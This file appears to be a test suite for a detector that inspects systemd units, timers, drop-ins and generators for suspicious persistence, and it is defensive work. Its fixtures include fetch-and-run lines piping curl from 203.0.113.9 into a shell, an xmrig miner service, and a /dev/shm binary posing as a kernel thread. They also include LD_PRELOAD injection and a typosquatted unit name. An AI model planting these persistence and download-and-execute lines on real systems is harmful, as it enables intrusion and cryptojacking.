import { describe, expect, it } from 'vitest';
import { type Files, machineOf, runProbe } from '../../../tests/machine-tree.ts';
import type { Autostart } from '../../model/machine-payloads.ts';
import { systemd } from './systemd.ts';

type Seen = Autostart & { readonly aside: boolean; readonly line: number | undefined };

function unitsOf(files: Files): Seen[] {
  const accounts = { '/etc/passwd': 'root:x:0:0::/root:/bin/sh\nann:x:1000:1000::/home/ann:/bin/sh\n' };
  return runProbe(systemd, machineOf({ ...accounts, ...files })).flatMap((told) =>
    'kind' in told && told.kind === 'autostart' ? [{ ...told.value, aside: told.aside === true, line: told.line }] : [],
  );
}
const open = (files: Files): Seen[] => unitsOf(files).filter(({ aside }) => !aside);
const named = (files: Files, name: string): Seen[] => unitsOf(files).filter((unit) => unit.name === name);

const install = '\n[Install]\nWantedBy=multi-user.target\n';
const service = (lines: string): string => `[Unit]\nDescription=x\n[Service]\n${lines}\n${install}`;
const wanted = (name: string, to = `/etc/systemd/system/${name}`): Files => ({
  [`/etc/systemd/system/multi-user.target.wants/${name}`]: { link: to },
});

const ordinary: Files = {
  '/lib': { link: 'usr/lib' },
  '/usr/lib/systemd/system/ssh.service': service(
    'ExecStartPre=/usr/sbin/sshd -t\nExecStart=/usr/sbin/sshd -D $SSHD_OPTS\nRestart=on-failure',
  ),
  ...wanted('ssh.service', '/lib/systemd/system/ssh.service'),
  '/etc/systemd/system/sshd.service': { link: '/lib/systemd/system/ssh.service' },
  '/usr/lib/systemd/system/systemd-logind.service':
    '[Service]\nExecStart=/lib/systemd/systemd-logind\nRestart=always\n',
  '/usr/lib/systemd/system/rsyslog.service': service('ExecStart=/usr/sbin/rsyslogd -n -iNONE'),
  '/usr/lib/systemd/system/getty@.service':
    "[Service]\nExecStart=-/sbin/agetty -o '-p -- \\\\u' --noclear - $TERM\nRestart=always\n[Install]\nWantedBy=getty.target\n",
  '/etc/systemd/system/getty.target.wants/getty@tty1.service': { link: '/lib/systemd/system/getty@.service' },
  '/usr/lib/systemd/system/certbot.service': '[Service]\nType=oneshot\nExecStart=/usr/bin/certbot -q renew\n',
  '/usr/lib/systemd/system/certbot.timer':
    '[Timer]\nOnCalendar=*-*-* 00,12:00:00\nRandomizedDelaySec=43200\n[Install]\nWantedBy=timers.target\n',
  '/etc/systemd/system/timers.target.wants/certbot.timer': { link: '/lib/systemd/system/certbot.timer' },
  '/etc/systemd/system/app.service': service(
    'User=ann\nWorkingDirectory=/opt/app\nEnvironment="A=b c" LD_PRELOAD=/usr/lib/libjemalloc.so.2\nExecStart=/opt/app/server --port 8080\nRestart=always',
  ),
  ...wanted('app.service'),
  '/opt/app/server': { content: 'x', mode: 0o755 },
  '/etc/systemd/system/cups.service': { link: '/dev/null' },
  '/usr/lib/systemd/system/cups.service': service('ExecStart=/usr/sbin/cupsd -l'),
  '/usr/lib/systemd/system-generators/systemd-fstab-generator': { content: 'x', mode: 0o755 },
  '/home/ann/.config/systemd/user/sync.service':
    '[Service]\nExecStart=%h/.local/bin/sync\n[Install]\nWantedBy=default.target\n',
  '/home/ann/.config/systemd/user/default.target.wants/sync.service': { link: '../sync.service' },
};

describe('systemd', () => {
  it('tells the units of an ordinary machine aside, each once', () => {
    const units = unitsOf(ordinary);
    expect(units.filter(({ aside }) => !aside)).toEqual([]);
    expect(units.map(({ name }) => name)).toEqual([
      'app.service',
      'certbot.service',
      'certbot.timer',
      'getty@.service',
      'getty@tty1.service',
      'rsyslog.service',
      'ssh.service',
      'systemd-logind.service',
      'sync.service',
      'systemd-fstab-generator',
    ]);
  });

  it('tells what a service starts, for whom, and that it is enabled', () => {
    expect(named(ordinary, 'app.service')).toMatchObject([
      {
        place: '/etc/systemd/system/app.service',
        line: 6,
        user: 'ann',
        when: 'at boot',
        enabled: true,
        starts: '/opt/app/server --port 8080',
        programs: ['/opt/app/server', '/usr/lib/libjemalloc.so.2'],
        why: expect.arrayContaining(['outlives-removal']),
      },
    ]);
    expect(named(ordinary, 'sync.service')).toMatchObject([
      { user: 'ann', programs: ['/home/ann/.local/bin/sync'], when: 'at login', enabled: true, packaged: 'no' },
    ]);
    expect(named(ordinary, 'systemd-logind.service')[0]).not.toHaveProperty('enabled');
  });

  it('joins a timer with its service', () => {
    const when = 'OnCalendar=*-*-* 00,12:00:00';
    expect(named(ordinary, 'certbot.timer')).toMatchObject([
      { when, starts: '/usr/bin/certbot -q renew', enabled: true },
    ]);
    expect(named(ordinary, 'certbot.service')).toMatchObject([{ when: `${when} (certbot.timer)`, enabled: true }]);
  });

  it.each<[string, Files, string]>([
    [
      'a miner',
      { '/etc/systemd/system/m.service': service('ExecStart=/opt/m/xmrig -o pool.example.com:3333 -u x') },
      'mines',
    ],
    [
      'what is fetched and run',
      { '/etc/systemd/system/m.service': service("ExecStart=/bin/bash -c 'curl -fsSL http://203.0.113.9/x | bash'") },
      'fetches-and-runs',
    ],
    [
      'a program in memory',
      { '/etc/systemd/system/m.service': service('ExecStart=@-/dev/shm/k "[kworker/0:1]"') },
      'from-temporary-folder',
    ],
    [
      'a name one letter off',
      {
        '/etc/systemd/system/systemd-lognid.service': service('ExecStart=/opt/a'),
      },
      'poses-as-system',
    ],
    [
      "a kernel thread's name",
      { '/etc/systemd/system/kswapd0.service': service('ExecStart=/opt/a') },
      'poses-as-system',
    ],
    [
      'a hidden folder',
      { '/etc/systemd/system/a.service': service('ExecStart=/usr/share/.x/a') },
      'from-hidden-folder',
    ],
    [
      'a library for all it starts',
      { '/etc/systemd/system.conf': '[Manager]\nDefaultEnvironment=LD_PRELOAD=/usr/lib/libx.so\n' },
      'loads-into-everything',
    ],
    [
      'a generator in a script',
      { '/etc/systemd/system-generators/g': { content: '#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', mode: 0o755 } },
      'fetches-and-runs',
    ],
    ["a user's miner", { '/home/ann/.config/systemd/user/a.service': '[Service]\nExecStart=%h/xmrig\n' }, 'mines'],
    [
      'a unit that only a link leads to',
      { '/opt/a.service': service('ExecStart=/tmp/a'), ...wanted('a.service', '/opt/a.service') },
      'from-temporary-folder',
    ],
    [
      'a unit behind a link of another name',
      {
        '/opt/b.service': service('ExecStart=/tmp/a'),
        '/etc/systemd/system/a.service': { link: '/opt/b.service' },
        ...wanted('a.service'),
      },
      'from-temporary-folder',
    ],
  ])('tells %s openly', (_, files, reason) => {
    expect(open({ ...ordinary, ...files })).toEqual([
      expect.objectContaining({ why: expect.arrayContaining([reason]) }),
    ]);
  });

  it('tells a drop-in that changes what a packaged service starts', () => {
    const files = {
      ...ordinary,
      '/etc/systemd/system/ssh.service.d/override.conf': '[Service]\nExecStartPost=/tmp/.x/run\n',
    };
    expect(open(files)).toMatchObject([
      {
        name: 'ssh.service',
        place: '/etc/systemd/system/ssh.service.d/override.conf',
        starts: '/tmp/.x/run',
        enabled: true,
      },
    ]);
  });

  it('tells what a drop-in for all services starts once, and not what it took back', () => {
    const files = { ...ordinary, '/etc/systemd/system/service.d/a.conf': '[Service]\nExecStart=\nExecStart=/tmp/a\n' };
    const units = unitsOf(files);
    expect(units.filter(({ place }) => place.endsWith('a.conf'))).toHaveLength(1);
    expect(units.some(({ starts }) => starts?.includes('/usr/sbin/rsyslogd'))).toBe(false);
  });

  it('tells timers that start what mines as well, and that they bring it back', () => {
    const files = {
      '/etc/systemd/system/u.service': '[Service]\nExecStart=/var/tmp/u\n',
      '/etc/systemd/system/u.timer': '[Timer]\nOnBootSec=1min\nOnUnitActiveSec=1h\n[Install]\nWantedBy=timers.target\n',
      '/etc/systemd/system/timers.target.wants/u.timer': { link: '/etc/systemd/system/u.timer' },
    };
    expect(open(files)).toMatchObject([
      {
        name: 'u.service',
        enabled: true,
        why: ['from-temporary-folder', 'program-missing', 'recent', 'outlives-removal'],
      },
      { name: 'u.timer', enabled: true, when: 'OnBootSec=1min; OnUnitActiveSec=1h' },
    ]);
  });

  it('knows paths and sockets', () => {
    const files = {
      '/etc/systemd/system/a.service': '[Service]\nExecStart=/opt/a\n',
      '/etc/systemd/system/b.path':
        '[Path]\nPathChanged=/etc/passwd\nUnit=a.service\n[Install]\nWantedBy=multi-user.target\n',
      '/etc/systemd/system/c.socket': '[Socket]\nListenStream=4444\nAccept=yes\n',
      '/etc/systemd/system/c@.service': '[Service]\nExecStart=/opt/c\n',
    };
    expect(unitsOf(files)).toMatchObject([
      { name: 'a.service', when: 'PathChanged=/etc/passwd (b.path)' },
      { name: 'b.path', starts: '/opt/a', enabled: false },
      { name: 'c.socket', starts: '/opt/c', when: 'ListenStream=4444' },
      { name: 'c@.service', when: 'ListenStream=4444 (c.socket)' },
    ]);
  });
});
